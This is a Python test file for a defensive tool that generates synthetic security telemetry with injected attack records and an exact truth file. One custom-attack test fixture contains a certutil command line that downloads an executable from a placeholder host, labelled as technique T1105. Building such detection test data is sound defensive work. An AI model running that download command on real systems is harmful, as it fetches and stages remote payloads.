"""The telemetry generator: deterministic, typed like the catalog, truth file exact."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import duckdb
import pytest

from defensemap.catalog import load_catalog
from defensemap.errors import InputError
from defensemap.generate.telemetry import DEFAULT_ATTACKS, TABLES, generate


def _rows(path: Path) -> list[dict]:
    reader = {".parquet": "read_parquet", ".csv": "read_csv", ".ndjson": "read_json"}[path.suffix]
    con = duckdb.connect()
    cursor = con.execute(f"SELECT * FROM {reader}('{path}')")
    names = [d[0] for d in cursor.description]
    return [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]


@pytest.mark.parametrize("table", sorted(TABLES))
@pytest.mark.parametrize("suffix", [".parquet", ".ndjson", ".csv"])
def test_same_seed_same_bytes_and_exact_truth(tmp_path: Path, table: str, suffix: str) -> None:
    first = generate(table, 500, tmp_path / f"a{suffix}", seed=7)
    second = generate(table, 500, tmp_path / f"b{suffix}", seed=7)
    digest = lambda p: hashlib.sha256(p.read_bytes()).hexdigest()  # noqa: E731
    assert digest(first.path) == digest(second.path)
    assert first.rows == 500 + len(DEFAULT_ATTACKS[table])
    rows = _rows(first.path)
    assert len(rows) == first.rows
    truth = json.loads(Path(f"{first.path}.truth.json").read_text())
    assert [t["name"] for t in sorted(truth, key=lambda t: t["name"])] == sorted(
        a.name for a in DEFAULT_ATTACKS[table]
    )
    by_name = {a.name: a for a in DEFAULT_ATTACKS[table]}
    for item in truth:
        row = rows[item["record"] - 1]
        for column, value in by_name[item["name"]].values.items():
            assert str(row[column]) == str(value)


def test_other_seed_other_data(tmp_path: Path) -> None:
    a = generate("SigninLogs", 300, tmp_path / "a.ndjson", seed=1)
    b = generate("SigninLogs", 300, tmp_path / "b.ndjson", seed=2)
    assert a.path.read_bytes() != b.path.read_bytes()


def test_catalog_tables_carry_every_catalog_column_in_order(tmp_path: Path) -> None:
    out = generate("DeviceProcessEvents", 50, tmp_path / "p.parquet")
    con = duckdb.connect()
    described = con.execute(f"DESCRIBE SELECT * FROM read_parquet('{out.path}')").fetchall()
    expected = load_catalog().table("DeviceProcessEvents")
    assert expected is not None
    assert [r[0] for r in described] == [c.name for c in expected.columns]
    assert {r[0]: r[1] for r in described}["Timestamp"].startswith("TIMESTAMP")


def test_benign_data_looks_like_a_fleet(tmp_path: Path) -> None:
    rows = _rows(generate("DeviceProcessEvents", 2000, tmp_path / "p.ndjson", attacks=[]).path)
    assert len({r["DeviceName"] for r in rows}) > 30
    assert len({r["AccountName"] for r in rows}) > 20
    hours = [int(str(r["Timestamp"])[11:13]) for r in rows]
    assert sum(9 <= h <= 17 for h in hours) > len(hours) * 0.5


def test_custom_attacks_and_bad_input(tmp_path: Path) -> None:
    attacks = tmp_path / "attacks.yaml"
    attacks.write_text(
        "- name: rare binary\n  technique: T1105\n  values: {FileName: certutil.exe,"
        " ProcessCommandLine: 'certutil -urlcache -f http://x/y.exe y.exe'}\n"
    )
    from defensemap.generate.telemetry import load_attacks

    out = generate("DeviceProcessEvents", 100, tmp_path / "p.csv", attacks=load_attacks(attacks))
    assert [a["technique"] for a in out.attacks] == ["T1105"]
    with pytest.raises(InputError, match="no generator"):
        generate("NoSuchTable", 1, tmp_path / "x.ndjson")
    with pytest.raises(InputError, match="unknown output format"):
        generate("SigninLogs", 1, tmp_path / "x.xml")
    bad = tmp_path / "bad.yaml"
    bad.write_text("- name: x\n  values: {NotAColumn: 1}\n")
    with pytest.raises(InputError, match="NotAColumn"):
        generate("SigninLogs", 1, tmp_path / "x.ndjson", attacks=load_attacks(bad))


def test_cli_writes_the_file(cli, home: Path, tmp_path: Path) -> None:
    out = tmp_path / "s.jsonl"
    result = cli(
        "generate", "telemetry", "--table", "Sysmon", "--rows", "20", "-o", str(out), "--json"
    )
    assert result.exit_code == 0, result.stderr
    assert result.json()["data"]["rows"] == 21
    assert out.exists() and Path(f"{out}.truth.json").exists()
